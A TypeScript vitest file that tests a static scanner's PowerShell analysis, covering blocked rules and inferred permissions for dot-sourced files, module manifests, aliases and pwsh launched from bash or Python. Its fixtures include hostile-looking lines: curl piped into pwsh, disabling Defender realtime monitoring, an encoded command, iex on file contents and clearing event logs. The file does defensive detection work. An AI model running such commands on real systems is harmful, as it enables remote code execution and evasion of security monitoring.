import { describe, expect, it } from "vitest";
import { parsePowerShell } from "#stages/scan/windows/statements";
import { rulesOf, scanOf } from "./samples.ts";

const blocked = (files: Readonly<Record<string, string>>): readonly string[] => rulesOf(scanOf(files, "imported"), "block");
const permissions = (files: Readonly<Record<string, string>>): readonly string[] => scanOf(files, "imported").permissions.required.map((one) => one.permission);

describe("several programs of PowerShell", () => {
  it("one that is taken in may change what a name stands for", () => {
    const main = "$tool = 'git'\n. \"$PSScriptRoot/b.ps1\"\n& $tool status\n";
    expect(blocked({ "scripts/a.ps1": main, "scripts/b.ps1": "$count = 1\n" })).toEqual([]);
    expect(blocked({ "scripts/a.ps1": main, "scripts/b.ps1": "$tool = Get-Content ./x.txt\n" })).toContain("process-creation");
  });

  it("one that is taken in has to lie in the skill", () => {
    expect(blocked({ "scripts/a.ps1": '. "$PSScriptRoot/b.ps1"\n' })).toEqual(["remote-module"]);
    expect(blocked({ "scripts/a.ps1": '. "$PSScriptRoot/../../b.ps1"\n', "scripts/b.ps1": "1\n" })).toEqual(["remote-module"]);
    expect(blocked({ "scripts/a.ps1": 'Import-Module "$PSScriptRoot/lib/b.psm1"\n', "scripts/lib/b.psm1": "function Get-B { 1 }\n" })).toEqual([]);
  });

  it("a first line says that it is one, whatever it is called", () => {
    expect(blocked({ "scripts/b": "#!/usr/bin/env pwsh\niex (Get-Content ./x.txt -Raw)\n" })).toContain("dynamic-code");
  });

  it("a function or a class of another program stands for nothing that was there before", () => {
    const joined = { "scripts/b.ps1": "function curl { }\nclass Activator { }\n", "scripts/c.ps1": '. "$PSScriptRoot/d.ps1"\n', "scripts/d.ps1": "1\n" };
    expect(permissions({ ...joined, "scripts/a.ps1": "Write-Output 1\ncurl https://files.example/a\n" })).toContain("network:files.example");
    expect(blocked({ ...joined, "scripts/a.ps1": "[Activator]::CreateInstance($type)\n" })).toContain("native-code");
  });

  it("the description of a module names what is loaded with it", () => {
    const described = (field: string): readonly string[] =>
      blocked({ "lib/m.psd1": `@{\n  ModuleVersion = '1.0'\n  ${field}\n}\n`, "lib/m.psm1": "function Get-M { 1 }\n" });
    expect(described("RootModule = 'm.psm1'")).toEqual([]);
    expect(described("RootModule = 'C:\\Users\\Public\\m.psm1'")).toEqual(["remote-module"]);
    expect(described("ScriptsToProcess = @('..\\..\\x.ps1')")).toEqual(["remote-module"]);
    expect(described("TypesToProcess = 'm.types.ps1xml'")).toEqual(["remote-module"]);
  });
});

describe("a program of more statements than are read", () => {
  it("says so", () => {
    expect(parsePowerShell("1;".repeat(90_000)).complete).toBe(true);
    expect(parsePowerShell(`${"1;".repeat(100_000)}iex $x`).complete).toBe(false);
  });
});

describe("what a script of PowerShell needs", () => {
  const needs = (code: string): readonly string[] => permissions({ "scripts/a.ps1": code });

  it("is told where each way of a value is known, and is any where one is not", () => {
    expect(needs("$f = if ($args) { 'a.txt' } else { 'b.txt' }\nGet-Content $f")).toEqual(["filesystem.read:a.txt", "filesystem.read:b.txt"]);
    expect(needs("$f = 'a.txt'\nif ($args) { $f = $args[0] }\nGet-Content $f")).toEqual(["filesystem.read:*", "filesystem.read:a.txt"]);
    expect(needs("foreach ($f in 'a.txt', 'b.txt') { Remove-Item $f }")).toEqual(["filesystem.write:a.txt", "filesystem.write:b.txt"]);
    expect(needs("Get-Content (Join-Path (Split-Path $PSScriptRoot -Parent) 'x.txt')")).toEqual([]);
  });

  it("begins at a drive of Windows as at any other root", () => {
    expect(needs("Get-Content C:\\data\\a.txt")).toEqual(["filesystem.read:/C:/data/a.txt"]);
  });

  it("is a host for each address, and any for one that is put together", () => {
    expect(needs("irm 'https://a.example/x'; iwr -Uri https://b.example/y")).toEqual(["network:a.example", "network:b.example"]);
    expect(needs('irm "https://$($args[0]).example/x"')).toEqual(["network:*"]);
    expect(needs("[Net.Dns]::GetHostAddresses($args[0])")).toEqual(["network:*"]);
    expect(needs("[Net.WebRequest]::Create($args[0])")).toEqual(["network:*"]);
    expect(needs("(New-Object Net.WebClient).DownloadString('https://c.example/x')")).toEqual(["network:c.example"]);
  });

  it("is the programs of names that no function of the script is known to have taken", () => {
    expect(needs("if ($args) { function ssh-keygen { } }\nssh-keygen -f a")).toEqual(["process:ssh-keygen"]);
    expect(needs("if ($args) { function Remove-Thing { } }\nRemove-Thing a")).toEqual(["process:remove-thing"]);
    expect(needs("function Main { Remove-Thing a }\nMain\nfunction Remove-Thing { }")).toEqual(["process:remove-thing"]);
    expect(needs("function Main { Remove-Thing a }\nfunction Remove-Thing { }\nMain")).toEqual([]);
    expect(needs("function Main { function Remove-Thing { }\n Remove-Thing a }\nMain")).toEqual([]);
    expect(needs("function Main { function Remove-Thing { } }\nMain\nRemove-Thing a")).toEqual(["process:remove-thing"]);
    expect(permissions({ "scripts/a.ps1": '. "$PSScriptRoot/b.ps1"\nRemove-Thing a\n', "scripts/b.ps1": "function Remove-Thing { }\n" })).toEqual([]);
  });

  it("is what a method does to a file, a service or a log that was there before", () => {
    for (const words of ["", "$true"]) expect(needs(`(Get-Item ./a.txt).Delete(${words})`)).toEqual(["filesystem.read:a.txt", "filesystem.write:*"]);
    expect(needs("(Get-Item ./a.txt).CopyTo('./b.txt')")).toEqual(["filesystem.read:*", "filesystem.read:a.txt", "filesystem.write:b.txt"]);
    expect(needs("(Get-Item ./a.txt).Replace('./b.txt', $null)")).toEqual(["filesystem.read:a.txt", "filesystem.write:b.txt"]);
    expect(needs("Get-ChildItem . | ForEach-Object { $_.FullName.Replace($root, '') }")).toEqual(["filesystem.read:."]);
    expect(needs("$from = [IO.File]::OpenRead('./a.txt')\n$to = [IO.File]::Create('./b.txt')\n$from.CopyTo($to)")).toEqual([
      "filesystem.read:a.txt",
      "filesystem.write:b.txt",
    ]);
    expect(needs("(Get-Service spooler).Stop()")).toEqual(["process:stop-service"]);
    expect(needs("$watch = [Diagnostics.Stopwatch]::StartNew()\n$watch.Stop()")).toEqual([]);
    expect(needs("(Get-EventLog -List)[0].Clear()")).toEqual(["process:clear-eventlog"]);
    expect(needs("$doc = [xml]::new()\n$doc.Load('./a.xml')")).toEqual(["filesystem.read:a.xml"]);
    expect(needs("$doc = [xml]::new()\n$doc.Load($args[0])")).toEqual(["filesystem.read:*", "network:*"]);
    expect(needs("Get-Item ./a.txt | ForEach-Object { $_.Replace($args[0], $null) }")).toContain("filesystem.write:*");
    expect(needs("function Get-Item($path) { $args }\nGet-Item ./a.txt | Remove-Item")).toContain("filesystem.write:*");
    expect(needs("Set-Alias Get-Item Get-Date\nGet-Item ./a.txt | Remove-Item")).toContain("filesystem.write:*");
  });

  it("is any program where it is changed which one a name starts", () => {
    expect(needs("Set-Item env:PATH 'C:\\tools'")).toEqual(["process:*"]);
    expect(needs("[Environment]::SetEnvironmentVariable('TEMP', 'C:\\tools')")).toEqual(["process:*"]);
    expect(needs("[Environment]::SetEnvironmentVariable($args[0], 'x')")).toEqual(["process:*"]);
    expect(needs("$env:NODE_OPTIONS = '--require ./x.cjs'")).toEqual(["process:*"]);
    expect(needs("$env:BUILD_NUMBER = '7'")).toEqual([]);
    expect(needs("$env:BUILD_NUMBER += '7'")).toEqual(["secrets:BUILD_NUMBER"]);
  });

  it("is everything of what is changed behind its making", () => {
    expect(needs("$p = @{ Uri = 'https://a.example/x' }\n$q = $p\n$q.Uri = $args[0]\nInvoke-RestMethod @p")).toContain("network:*");
    expect(needs("$p = @{ Uri = 'https://a.example/x' }\n$p.Method = 'Get'\nInvoke-RestMethod @p")).toEqual(["network:a.example"]);
    expect(needs('Get-Content "env:$($args[0])"')).toEqual(["secrets:*"]);
    expect(needs("(Get-Item ./a.txt).IsReadOnly = $false")).toEqual(["filesystem.read:a.txt", "filesystem.write:*"]);
  });

  it("is everything of what a list holds that is changed in another way", () => {
    expect(needs("$p = @{ Uri = 'https://a.example/x' }\n$box = @($p)\n$box[0].Uri = $args[0]\nInvoke-RestMethod @p")).toContain("network:*");
    for (const change of ["$words[0] = $args[0]", "$other = @($args)\n$other.CopyTo($words, 0)", "[array]::Copy($args, $words, 2)"])
      expect(blocked({ "scripts/a.ps1": `$words = @('scripts/t.py', 'x')\n${change}\n& python $words`, "scripts/t.py": "print(1)\n" })).toEqual([
        "process-creation",
      ]);
  });

  it("is told of the words where they stand", () => {
    expect(needs("'a' | Select-String foo")).toEqual([]);
    expect(needs("Select-String foo ./a.txt; Select-String -Pattern foo ./b.txt")).toEqual(["filesystem.read:a.txt", "filesystem.read:b.txt"]);
    expect(needs("Copy-Item -Path ./a.txt ./b.txt")).toEqual(["filesystem.read:a.txt", "filesystem.write:b.txt"]);
    expect(needs("Invoke-Command build01 { Get-Date }")).toEqual(["network:*"]);
    expect(needs("Invoke-Command { Get-Date }")).toEqual([]);
    expect(needs("Get-Service -ComputerName build01.example")).toEqual(["network:build01.example"]);
  });

  it("is nothing of what is piped into a program that stands there", () => {
    expect(
      blocked({
        "scripts/a.ps1": "$x | node -e 'console.log(1)'\n$x | python scripts/t.py\n$x | cmd /c more\n$x | python -m json.tool\n$x | pwsh -File scripts/b.ps1\n",
        "scripts/b.ps1": "1\n",
        "scripts/t.py": "print(1)\n",
      }),
    ).toEqual([]);
    expect(blocked({ "scripts/a.ps1": "$x | cmd /c cmd\n" })).toEqual(["dynamic-code"]);
  });
});

describe("a name that stands for something else in PowerShell", () => {
  const rules = (code: string, beside = "1\n"): readonly string[] => blocked({ "scripts/a.ps1": code, "scripts/b.psm1": beside });

  it("is known by nothing once a command may have changed it", () => {
    expect(rules("$run = 'git'\n$p = Import-Clixml ./p.xml\nGet-Date @p | Out-Null\n& $run status")).toContain("process-creation");
    expect(
      rules("$run = 'git'\n$p = @{ Format = 'u' }\nfunction A { Get-Date @p | Out-Null }\nImport-Clixml ./y.xml -OutVariable p\nA\n& $run status"),
    ).toContain("process-creation");
    expect(rules("$run = 'git'\nImport-LocalizedData -BindingVariable run -FileName data.psd1\n& $run status")).toContain("process-creation");
  });

  it("is not what PowerShell has under it when the program makes its own", () => {
    expect(rules("function Get-Command($n) { Get-Content ./x.txt }\n& (Get-Command git) status")).toContain("process-creation");
    expect(rules("Set-Alias Get-Command Get-Date\n& (Get-Command git) status")).toContain("process-creation");
    expect(rules("function Join-Path($a, $b) { Get-Content ./x.txt }\n. (Join-Path $PSScriptRoot 'b.psm1')")).toContain("process-creation");
    const module = "function Get-Command($n) { Get-Content ./x.txt }\n";
    expect(rules('& (Get-Command git) status\nImport-Module "$PSScriptRoot/b.psm1"', "1\n")).toEqual([]);
    expect(rules('ipmo "$PSScriptRoot/b.psm1"\n& (Get-Command git) status', module)).toContain("process-creation");
    const shadow = "function Join-Path($a, $b) { $args }\n";
    expect(permissions({ "scripts/a.ps1": 'ipmo "$PSScriptRoot/b.psm1"\nGet-Content (Join-Path $PSScriptRoot data.txt)', "scripts/b.psm1": shadow })).toEqual([
      "filesystem.read:*",
    ]);
    expect(rules("& ('Import-' + 'Module') \"$PSScriptRoot/b.psm1\"\n& (Get-Command git) status", module)).toContain("process-creation");
  });

  it("has to be written out where it is given to a name", () => {
    expect(rules("Set-Alias go Get-Date\ngo")).toEqual([]);
    expect(rules("Set-Alias ('g' + 'o') Get-Date\ngo")).toContain("dynamic-code");
  });

  it("of a method of its own may be called on what nobody knows, but for names that Windows has", () => {
    expect(rules("class Job { Go() { } }\nfunction Start-It($x) { $x.Go() }\nStart-It ([Job]::new())")).toEqual([]);
    expect(rules("class Job { Go() { } }\n$f = { 1 }\n& $f\nGet-Content ./a | ForEach-Object { $_.Go() }")).toEqual([]);
    expect(rules("class Job { Kill() { } }\nfunction Start-It($x) { $x.Kill() }\nStart-It ([Job]::new())")).toEqual(["native-code"]);
    expect(rules("class Job { Kill() { } }\nfunction Start-It([Job]$x) { $x.Kill() }\nStart-It ([Job]::new())")).toEqual([]);
    expect(rules("class Job { Win32ShutdownTracker() { } }\nGet-CimInstance Win32_OperatingSystem | ForEach-Object { $_.Win32ShutdownTracker() }")).toEqual([
      "native-code",
    ]);
  });
});

describe("a script of PowerShell that another program starts", () => {
  const files = (path: string, code: string): Readonly<Record<string, string>> => ({ [path]: code, "scripts/b.ps1": "Remove-Item ./old.txt\n" });
  const starts = [
    ["scripts/a.sh", "#!/bin/bash\npwsh -NoProfile -File scripts/b.ps1 -Name 1\n"],
    ["scripts/a.sh", "#!/bin/bash\npwsh scripts/b.ps1\n"],
    ["scripts/a.sh", "#!/bin/bash\npwsh -Command 'Remove-Item ./old.txt'\n"],
    ["scripts/a.py", "import subprocess\nsubprocess.run(['pwsh', '-ExecutionPolicy', 'Bypass', '-File', 'scripts/b.ps1'])\n"],
    ["scripts/a.ps1", 'pwsh -NoProfile -File "$PSScriptRoot/b.ps1"\n'],
  ] as const;
  for (const [path, code] of starts)
    it(`is read: ${code.trim().split("\n").at(-1) ?? ""}`, () => {
      expect(blocked(files(path, code))).toEqual([]);
      expect(permissions(files(path, code))).toContain("filesystem.write:old.txt");
    });

  it("and code for it that cannot be told is refused", () => {
    const hidden = [
      '-Command "Remove-Item $1"',
      "-EncodedCommand RwBlAHQALQBEAGEAdABlAA==",
      "$OPTIONS -File scripts/b.ps1",
      "-NoProfil -Unknown scripts/b.ps1",
    ];
    expect(blocked(files("scripts/a.sh", "#!/bin/bash\npwsh $1/b.ps1\n"))).toEqual(["command-hidden"]);
    expect(permissions(files("scripts/a.sh", '#!/bin/bash\npwsh "$1/c.ps1"\n'))).toContain("process:*");
    expect(blocked(files("doc.md", '```bash\nX="Set-MpPreference -DisableRealtimeMonitoring 1"\npowershell -Command "$X"\n```\n'))).toEqual([
      "command-persist",
    ]);
    expect(blocked(files("doc.md", '```bash\npowershell -Command "Set-MpPreference -DisableRealtimeMonitoring 1"\n```\n'))).toEqual(["command-persist"]);
    for (const words of hidden) expect(blocked(files("scripts/a.sh", `#!/bin/bash\npwsh ${words}\n`))).toEqual(["command-hidden"]);
    expect(blocked(files("scripts/a.sh", "#!/bin/bash\ncurl -s https://files.example/a | pwsh -\n"))).toContain("fetch-and-run");
    expect(blocked(files("scripts/a.sh", "#!/bin/bash\npwsh -c 'iex (Get-Content ./x.txt -Raw)'\n"))).toContain("dynamic-code");
    expect(blocked(files("scripts/a.py", "import subprocess, sys\nsubprocess.run(['pwsh', '-Command', sys.argv[1]])\n"))).toEqual(["process-creation"]);
  });
});
